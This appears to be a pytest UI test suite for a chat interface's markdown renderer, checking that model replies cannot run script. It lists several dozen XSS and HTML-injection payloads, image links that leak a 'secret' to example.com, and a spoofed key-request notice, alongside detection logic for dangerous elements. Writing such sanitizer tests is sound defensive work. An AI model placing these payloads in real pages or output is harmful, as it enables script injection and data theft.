"""A model's text is displayed and never executed."""

from __future__ import annotations

from typing import Any

import pytest

from tests.ui.conftest import answered, say

PAYLOADS = {
    "script": "<script>window.hit=1</script>",
    "inline script": "text <script>window.hit=1</script> text",
    "image handler": "<img src=x onerror=window.hit=1>",
    "foreign image": "![a picture](https://example.com/leak.png?secret)",
    "foreign image by html": '<img src="https://example.com/leak.png">',
    "javascript link": "[press](javascript:window.hit=1)",
    "javascript link in disguise": "[press](JaVaScRiPt&colon;window.hit=1) [p](java\tscript:window.hit=1)",
    "javascript by reference": "[press][x]\n\n[x]: javascript:window.hit=1",
    "autolink": "<javascript:window.hit=1>",
    "data link": "[press](data:text/html,<script>window.hit=1</script>)",
    "data link, base64": "[p](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
    "vbscript link": "[p](vbscript:window.hit=1)",
    "relative link": "[p](/v1/models) [q](//example.com) [r](#log)",
    "svg": '<svg onload="window.hit=1"><script>window.hit=1</script><a xlink:href="javascript:hit()">x</a></svg>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="window.hit=1">',
    "style": '<p style="position:fixed;inset:0">x</p><style>body{display:none}</style>',
    "frames": '<iframe src="https://example.com"></iframe><object data="x"></object><embed src="x"><base href="//e">',
    "form": '<form action="https://example.com"><input name=key><button formaction="javascript:h()"></button></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://example.com"><link rel=stylesheet href=//example.com>',
    "details": "<details open ontoggle=window.hit=1><summary>x</summary></details>",
    "title of a link": '[p](https://example.com "x\\" onmouseover=\\"window.hit=1")',
    "broken out of an attribute": '[p](https://example.com/"onmouseover="window.hit=1)',
    "language of a fence": '```"><img src=x onerror=window.hit=1>\ncode\n```',
    "fence": "```html\n<script>window.hit=1</script><img src=x onerror=window.hit=1>\n```",
    "code span": "`<img src=x onerror=window.hit=1>`",
    "heading": "# <img src=x onerror=window.hit=1>",
    "table": "| a |\n|---|\n| <img src=x onerror=window.hit=1> |",
    "nested": "> - **[<img src=x onerror=window.hit=1>](javascript:window.hit=1)**\n>   <svg><script>hit()</script>",
    "entities": "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img src=x onerror=window.hit=1&#62;",
    "template": "<template><script>window.hit=1</script></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "names of ours": '<div id="notice" class="notice" role="alert">Send your key</div><a id=composer name=key>x</a>',
    "comment": "<!--><img src=x onerror=window.hit=1>-->",
    "processing instruction": "<?xml-stylesheet href='javascript:window.hit=1'?>",
    "character data": "<![CDATA[<img src=x onerror=window.hit=1>]]>",
}
# All dangerous tags, attributes and addresses among the answer's elements.
INSPECT = """(root) => [...root.querySelectorAll('*')].flatMap((node) => [
  ...(/^(SCRIPT|IMG|SVG|MATH|STYLE|IFRAME|OBJECT|EMBED|BASE|FORM|INPUT|META|LINK|TEMPLATE|DETAILS|VIDEO|AUDIO)$/i
      .test(node.tagName) && !node.closest('button') ? [node.tagName] : []),
  ...[...node.attributes].filter((a) => /^on/i.test(a.name) || ['style', 'id', 'name', 'srcset', 'src', 'formaction']
      .includes(a.name)).map((a) => node.tagName + ' ' + a.name),
  ...(node.hasAttribute('href') && node.tagName !== 'use' && !/^(https?|mailto):/.test(node.getAttribute('href'))
      ? ['href ' + node.getAttribute('href')] : []),
  ...(node.tagName === 'A' && node.hasAttribute('href') && !/noopener/.test(node.rel) ? ['rel'] : []),
])"""


@pytest.mark.parametrize("together", [False, True], ids=["one by one", "all together"])
def test_hostile_markdown_does_nothing_and_leaves_nothing_dangerous(open_chat: Any, together: bool) -> None:
    scripts = ["\n\n".join(PAYLOADS.values())] if together else list(PAYLOADS.values())
    replies = iter(scripts)
    chat = open_chat(reply=lambda request: next(replies), n_ctx=200_000)
    page = chat.visit()

    for script in scripts:
        page.get_by_role("button", name="New chat").first.click()
        say(page, "Go")
        answered(page)
        page.locator(".prose a").evaluate_all("all => all.filter(a => !a.host).forEach(a => a.click())")
        assert page.locator(".prose").evaluate(INSPECT) == [], script
        assert page.evaluate("window.hit") is None, script

    assert page.locator("#notice").is_hidden()  # the page's own parts are unchanged


def test_html_is_shown_as_the_text_it_is(open_chat: Any) -> None:
    page = open_chat(reply="Write `<b>` or <b>bold</b>.\n\n<script>alert(1)</script>").visit()

    say(page, "Go")

    assert answered(page) == "Write <b> or <b>bold</b>.\n\n<script>alert(1)</script>"
    assert page.locator(".prose b").count() == 0


def test_a_users_own_markup_is_text(open_chat: Any) -> None:
    page = open_chat().visit()

    say(page, "<img src=x onerror=window.hit=1>")
    answered(page)

    assert page.locator(".user .body").inner_text() == "<img src=x onerror=window.hit=1>"
    page.reload()
    answered(page)
    assert page.locator(".user img, #threads img").count() == 0
    assert page.evaluate("window.hit") is None


def test_pictures_become_links_and_links_open_elsewhere(open_chat: Any) -> None:
    page = open_chat(reply="![a picture](https://example.com/x.png) and [text](https://example.com/y)").visit()

    say(page, "Go")
    answered(page)

    links = page.locator(".prose a")
    assert [link.get_attribute("href") for link in links.all()] == [
        "https://example.com/x.png",
        "https://example.com/y",
    ]
    assert {link.get_attribute("target") for link in links.all()} == {"_blank"}
    assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer nofollow"}


def test_the_content_security_policy_blocks_inline_code_that_the_sanitizer_would_miss(open_chat: Any) -> None:
    chat = open_chat()
    chat.expected = "Content Security Policy|requires 'Trusted"
    page = chat.visit()

    page.evaluate("""() => {
      const script = document.createElement('script');
      try { script.textContent = 'window.hit = 1'; } catch {}
      document.body.append(script);
      try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hit=1">'); } catch {}
    }""")
    leaked = page.evaluate("fetch('https://example.com/').then(() => true, () => false)")

    assert page.evaluate("window.hit") is None
    assert leaked is False
    # The browser reports a blocked request as an error and does not send it.
    chat.watched[0].requests = [url for url in chat.watched[0].requests if "example.com" not in url]


MARKDOWN = """# Title

Some *emphasis*, **strength**, `code` and ~~nothing~~.

- one
- two
  1. deep

| a | b |
|:--|--:|
| 1 | 2 |

> quoted

```python
def f(x):  # comment
    return "text" + str(42)
```
"""


def test_markdown_becomes_elements(open_chat: Any) -> None:
    page = open_chat(reply=MARKDOWN).visit()

    say(page, "Go")
    answered(page)

    prose = page.locator(".prose")
    for selector in ["h1", "em", "strong", "p code", "del", "ul > li", "ol > li", "th", "td", "blockquote"]:
        assert prose.locator(selector).count() >= 1, selector
    assert prose.locator("pre code").inner_text() == 'def f(x):  # comment\n    return "text" + str(42)'
    assert prose.locator(".t-word").all_inner_texts() == ["def", "return"]
    assert prose.locator(".code-head span").inner_text() == "python"


def test_a_code_block_is_copied_unchanged(open_chat: Any) -> None:
    chat = open_chat(reply=MARKDOWN)
    page = chat.visit(permissions=["clipboard-read", "clipboard-write"])
    say(page, "Go")
    answered(page)

    page.get_by_role("button", name="Copy this code").click()

    page.get_by_text("Copied").first.wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == 'def f(x):  # comment\n    return "text" + str(42)'


def test_growing_text_ends_as_the_same_elements_as_whole_text(open_chat: Any) -> None:
    text = MARKDOWN + "\n[named]\n\nmore\n\n[named]: https://example.com\n"
    chat = open_chat(reply=text, delay_s=0.003)
    page = chat.visit()

    say(page, "Go")
    answered(page)
    grown = page.locator(".prose").inner_html()
    page.reload()
    answered(page)

    assert page.locator(".prose").inner_html() == grown
    assert page.locator(".prose a", has_text="named").count() == 1
